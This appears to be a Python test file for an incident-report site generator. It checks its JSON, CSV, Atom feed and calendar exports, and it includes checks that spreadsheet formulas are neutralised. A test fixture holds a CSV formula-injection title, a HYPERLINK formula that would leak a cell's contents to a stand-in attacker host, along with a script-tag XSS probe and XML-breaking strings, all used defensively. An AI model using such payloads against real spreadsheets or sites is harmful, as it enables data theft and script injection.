"""Exports: JSON round-trips to the model, CSV cannot run formulas, feed and calendar parse."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from typing import Any

import icalendar

from generator.check import load_checked
from generator.exports import Links, incident_json, site_files
from generator.exports.ical import fold
from generator.exports.schema import schema_texts
from generator.exports.table import columns, neutralise
from generator.facts.incident import IncidentFacts as IncidentMetrics
from generator.facts.incident import incident_facts
from generator.model.incident import Incident

from .conftest import ROOT

ATOM = "{http://www.w3.org/2005/Atom}"
TODAY = date(2025, 1, 10)
AS_OF = datetime(2025, 1, 10, 12, 0, tzinfo=UTC)
POLICY = load_checked(ROOT).policy
assert POLICY is not None
COLUMNS = columns([i.id for i in POLICY.intervals], [m.id for m in POLICY.milestones])
LINKS = Links("https://runbooks.example.com/ops", site_name="Ops runbooks")


def shipped() -> list[IncidentMetrics]:
    project = load_checked(ROOT)
    assert not project.problems
    assert project.policy is not None
    return [incident_facts(r.incident, project.policy, AS_OF, r.path) for r in project.records]


def hostile() -> IncidentMetrics:
    record = Incident.model_validate(
        {
            "number": 42,
            "slug": "hostile",
            "title": '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>',
            "severity": "SEV2",
            "status": "resolved",
            "timeline": [
                {"at": "2024-12-31T23:30:00-05:00", "kind": "detected", "text": "page"},
                {"at": "2025-01-01T06:00:00+01:00", "kind": "resolved", "text": "ok"},
            ],
            "postmortem": {
                "summary": "Broke ]]> & <b>bold</b>\x07 \"quoted\" 'single'",
                "action_items": [
                    {
                        "text": "Fix a, b; c\\d — ünïcödé " + "x" * 80,
                        "owner": "-@mallory",
                        "due": "2025-01-05",
                    },
                    {"text": "Done already", "owner": "@a", "due": "2025-01-20", "done": True},
                    {"text": "No date", "owner": "@a"},
                ],
            },
        }
    )
    assert POLICY is not None
    return incident_facts(record, POLICY, AS_OF)


def test_json_export_round_trips_every_record_to_the_model() -> None:
    items = shipped()
    files = site_files(items, LINKS, TODAY)
    data = json.loads(files["api/incidents.json"])
    assert (data["version"], data["today"], data["count"]) == (2, "2025-01-10", len(items))
    by_number = {m.incident.number: m.incident for m in items}
    for entry in data["incidents"]:
        original = by_number[entry["record"]["number"]]
        assert Incident.model_validate(entry["record"]) == original
        one = json.loads(files[f"api/incidents/{entry['ident']}.json"])
        assert one["record"] == entry["record"]
        assert one["computed"] == entry["computed"]


def test_site_file_of_each_incident_is_the_same_text_as_export_of_it_alone() -> None:
    # The site writes each incident's file from the entry it already encoded for
    # api/incidents.json; the bytes must be those of encoding the document whole.
    items = shipped()
    files = site_files(items, LINKS, TODAY)
    for m in items:
        alone = incident_json(m, LINKS, TODAY)
        assert files[f"api/incidents/{m.incident.ident}.json"] == alone
        assert list(json.loads(alone))[:3] == ["version", "today", "ident"]


def test_json_export_carries_computed_facts_with_named_intervals() -> None:
    data = json.loads(site_files(shipped(), LINKS, TODAY)["api/incidents.json"])
    seed = next(e for e in data["incidents"] if e["ident"] == "0015-hotfix-auth-token")
    assert seed["url"] == "https://runbooks.example.com/ops/incidents/0015-hotfix-auth-token/"
    computed = seed["computed"]
    assert computed["quarter"] == "2024-Q4"
    assert computed["milestones"]["detected"] == {
        "at": "2024-11-25T14:32:00+00:00",
        "shown": "2024-11-25T14:32:00+00:00",
        "approximate": False,
        "source": "timeline",
    }
    assert computed["intervals"]["time_to_resolve"] == {
        "label": "Time to resolve",
        "definition": "detected → resolved: from detection to the all-clear.",
        "start": "detected",
        "end": "resolved",
        "seconds": 47 * 60,
        "iso": "PT47M",
        "text": "47m",
        "approximate": False,
        "start_fallback": False,
        "end_fallback": False,
    }
    assert computed["duration"]["seconds"] == 47 * 60
    assert computed["intervals"]["time_to_detect"]["seconds"] is None
    assert [(c["check"], c["verdict"]) for c in computed["sla"]] == [
        ("time to acknowledge", "met"),
        ("time to resolve", "met"),
    ]
    # On 2025-01-10 @bob's item (due 2024-12-09) is overdue, @carol's (2025-01-15) is not.
    counts = {k: v for k, v in computed["action_items"].items() if k != "items"}
    assert counts == {"total": 3, "open": 2, "overdue": 1, "done": 1, "unknown": 0}
    assert [i["state"] for i in computed["action_items"]["items"]] == ["done", "overdue", "open"]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_neutralises_formulas_and_keeps_text() -> None:
    text = site_files([hostile()], LINKS, TODAY)["incidents.csv"]
    assert text.splitlines()[0].split(",") == list(COLUMNS)
    row = rows(text)[0]
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["title"].endswith("<script>alert(1)</script>")
    assert row["detected"] == "2024-12-31T23:30:00-05:00"
    assert row["quarter"] == "2025-Q1"
    assert row["time_to_resolve_seconds"] == "1800"
    assert row["time_to_acknowledge_seconds"] == ""
    assert row["action_items_overdue"] == "1"
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    assert neutralise("plain") == "plain"
    assert neutralise("1-2") == "1-2"


def test_atom_feed_parses_with_absolute_links_and_literal_text() -> None:
    items = [*shipped(), hostile()]
    root = ET.fromstring(site_files(items, LINKS, TODAY)["feed.xml"].encode())
    assert root.tag == f"{ATOM}feed"
    entries = root.findall(f"{ATOM}entry")
    with_pm = [m for m in items if m.incident.postmortem is not None]
    assert len(entries) == len(with_pm)
    for entry in entries:
        link = entry.find(f"{ATOM}link")
        assert link is not None
        assert link.get("href", "").startswith("https://runbooks.example.com/ops/incidents/")
        assert entry.findtext(f"{ATOM}updated", "").endswith("Z")
    # Newest first: the hostile record (resolved 2025-01-01) is older than #16 (Feb 2025).
    titles = [e.findtext(f"{ATOM}title") for e in entries]
    bad = next(e for e in entries if e.findtext(f"{ATOM}id", "").endswith("/0042-hostile/"))
    assert bad.findtext(f"{ATOM}title", "").endswith("<script>alert(1)</script>")
    summary = bad.findtext(f"{ATOM}summary", "")
    assert "Broke ]]> & <b>bold</b> \"quoted\" 'single'" in summary  # \x07 dropped
    assert titles.index(bad.findtext(f"{ATOM}title")) > 0
    assert root.findtext(f"{ATOM}updated") == entries[0].findtext(f"{ATOM}updated")


def test_icalendar_parses_and_lists_open_dated_items() -> None:
    text = site_files([hostile()], LINKS, TODAY)["action-items.ics"]
    assert "\n" not in text.replace("\r\n", "")
    for line in text.split("\r\n"):
        assert len(line.encode()) <= 75
    cal = icalendar.Calendar.from_ical(text)
    events = cal.walk("VEVENT")
    assert len(events) == 1  # done and undated items are left out
    event = events[0]
    assert str(event["SUMMARY"]) == "Fix a, b; c\\d — ünïcödé " + "x" * 80 + " (-@mallory)"
    assert event.decoded("DTSTART") == date(2025, 1, 5)
    assert event.decoded("DTEND") == date(2025, 1, 6)
    assert str(event["UID"]) == "0042-hostile-action-1@runbooks.example.com"
    assert str(event["DESCRIPTION"]).startswith("OVERDUE. Owner: -@mallory\nFrom incident #42")
    assert str(event["URL"]) == "https://runbooks.example.com/ops/incidents/0042-hostile/"


def test_fold_never_splits_a_multibyte_character() -> None:
    line = "SUMMARY:" + "é" * 100
    folded = fold(line)
    pieces = folded.split("\r\n ")
    assert all(len(p.encode()) <= 75 - (i > 0) for i, p in enumerate(pieces))
    assert "".join(pieces) == line


def test_empty_project_still_exports_every_file() -> None:
    files = site_files([], LINKS, TODAY)
    assert json.loads(files["api/incidents.json"])["incidents"] == []
    assert files["incidents.csv"] == ",".join(columns([])) + "\r\n"
    assert ET.fromstring(files["feed.xml"]).findall(f"{ATOM}entry") == []
    assert icalendar.Calendar.from_ical(files["action-items.ics"]).walk("VEVENT") == []
    for name, text in schema_texts().items():
        assert files[f"schemas/{name}"] == text


def test_without_site_url_links_are_relative_and_no_feed_is_written() -> None:
    files = site_files(shipped(), Links(), TODAY)
    assert "feed.xml" not in files
    data: dict[str, Any] = json.loads(files["api/incidents.json"])
    assert data["incidents"][0]["url"] == "incidents/0003-checkout-payment-timeouts/"


def test_readme_documents_every_csv_column_and_computed_key() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    formats = readme.split("### Export formats", 1)[1]
    for column in COLUMNS:
        assert f"`{column}`" in formats, column
    entry = json.loads(site_files(shipped(), LINKS, TODAY)["api/incidents.json"])["incidents"][0]
    for key in [*entry, *entry["computed"], *entry["computed"]["intervals"]]:
        assert key in formats, key


def test_csv_gives_a_declared_milestone_its_column() -> None:
    # Fastly, 2021-06-08: "within 49 minutes, 95% of our network was operating as normal"
    # (an estimate here). The partial recovery is a column, and flagged approximate.
    record = Incident.model_validate(
        {
            "number": 7,
            "slug": "cdn-errors",
            "title": "CDN errors",
            "severity": "SEV1",
            "status": "resolved",
            "timeline": [
                {"at": "2021-06-08T09:47:00Z", "kind": "started", "text": "Onset"},
                {"at": "2021-06-08T09:48:00Z", "kind": "detected", "text": "Monitoring"},
                {
                    "at": "2021-06-08T10:36:00Z",
                    "approximate": True,
                    "kind": "partial_recovery",
                    "text": "95% of network normal",
                },
                {"at": "2021-06-08T12:35:00Z", "kind": "mitigated", "text": "Mitigated"},
                {"at": "2021-06-08T12:44:00Z", "kind": "resolved", "text": "Resolved"},
            ],
        }
    )
    assert POLICY is not None
    text = site_files([incident_facts(record, POLICY, AS_OF)], LINKS, TODAY)["incidents.csv"]
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["partial_recovery"] == "2021-06-08T10:36:00+00:00"
    assert row["approximate_times"] == "partial_recovery"
    assert list(row)[list(row).index("resolved") + 1] == "partial_recovery"
